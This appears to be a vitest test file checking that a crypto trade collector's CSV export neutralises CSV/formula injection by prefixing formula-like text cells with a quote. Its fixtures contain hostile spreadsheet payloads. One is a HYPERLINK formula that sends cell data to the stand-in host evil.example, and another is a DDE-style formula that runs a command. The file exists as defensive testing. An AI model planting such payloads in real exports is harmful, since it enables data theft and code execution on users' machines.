// The CSV export over real HTTP when the configured endpoint sends text that a spreadsheet would run
// as a formula: every such cell of a text column (symbol, trade_id, tick_direction) comes back
// prefixed with `'` and quoted, and the numeric columns are written exactly as stored.

import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CSV_COLUMNS, CSV_TEXT_COLUMNS, csvRow } from '../../src/main/http/csv'
import type { TradeDto } from '../../src/shared/dto'
import { waitSubscribed } from '../support/stack'
import { waitFor } from '../support/wait-for'
import { http, parseCsv } from './support'
import { startMirrorStack, type MirrorStack } from './stack'

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r']

const hostile = [
  { i: '=HYPERLINK("http://evil.example/?x="&A1,"click")', s: 'BTCUSDT', L: 'PlusTick' },
  { i: '+1+1', s: '@SUM(1+1)*cmd|" /C calc"!A0', L: '-2+3' },
  { i: '-1', s: 'BTCUSDT', L: '\t=1' },
  { i: '\r=1', s: 'BTCUSDT', L: 'ZeroMinusTick' }
]

let stack: MirrorStack

beforeAll(async () => {
  stack = await startMirrorStack()
  await waitSubscribed(stack.engine)
  const T = Date.now()
  const data = hostile.map((h, k) => ({ ...h, T: T + k, p: '104569.5', v: '0.019691', S: 'Buy' }))
  stack.sim.sendRaw('spot', JSON.stringify({ topic: 'publicTrade.BTCUSDT', type: 'snapshot', ts: T, data }))
  await waitFor(() => stack.engine.storage.totalTrades === hostile.length, { what: 'the hostile trades stored' })
})
afterAll(async () => {
  await stack?.close()
})

describe('CSV export from an endpoint sending formula-like text', () => {
  it('each text cell starting a formula is prefixed with a quote; the numbers are written as stored', async () => {
    const res = await http(stack.port, '/collectors/trades.csv')
    expect(res.status).toBe(200)
    const [header, ...rows] = parseCsv(res.text)
    const col = (name: string): number => header.indexOf(name)
    const byId = new Map(rows.map((r) => [r[col('trade_id')], r]))
    expect([...byId.keys()].sort()).toEqual(hostile.map((h) => `'${h.i}`).sort())
    for (const h of hostile) {
      const row = byId.get(`'${h.i}`) ?? []
      const neutral = (text: string): string => (FORMULA_STARTS.includes(text[0]) ? `'${text}` : text)
      expect([row[col('symbol')], row[col('tick_direction')]]).toEqual([neutral(h.s), neutral(h.L)])
      expect([row[col('price')], row[col('quantity')], row[col('side')]]).toEqual(['104569.5', '0.019691', 'BUY'])
    }
    // On the wire every neutralised cell is quoted, so no line of the body starts a formula either.
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
    expect(res.text).toContain(`,"'+1+1",`)
    expect(res.text).toContain(`"'\r=1"`)
  })
})

describe('csvRow', () => {
  const trade: TradeDto = {
    symbol: 'BTCUSDT',
    side: 'SELL',
    price: '0.00001',
    quantity: '12',
    timestamp: 1795868157468,
    received_at: 1795868157471,
    exchange: 'bybit',
    category: 'spot',
    trade_id: '2240641456078089165',
    seq: 111156648407,
    tick_direction: 'MinusTick',
    is_block_trade: false
  }

  it.each(FORMULA_STARTS)('neutralises %j at the start of every text column, and only there', (start) => {
    for (const column of CSV_TEXT_COLUMNS) {
      const cells = parseCsv(csvRow({ ...trade, [column]: `${start}1` }))[0]
      expect(cells[CSV_COLUMNS.indexOf(column)]).toBe(`'${start}1`)
      const inside = parseCsv(csvRow({ ...trade, [column]: `a${start}1` }))[0]
      expect(inside[CSV_COLUMNS.indexOf(column)]).toBe(`a${start}1`)
    }
  })

  it('writes an ordinary trade unchanged', () => {
    expect(csvRow(trade)).toBe(
      'BTCUSDT,SELL,0.00001,12,1795868157468,1795868157471,bybit,spot,2240641456078089165,111156648407,MinusTick,false,,\r\n'
    )
  })
})
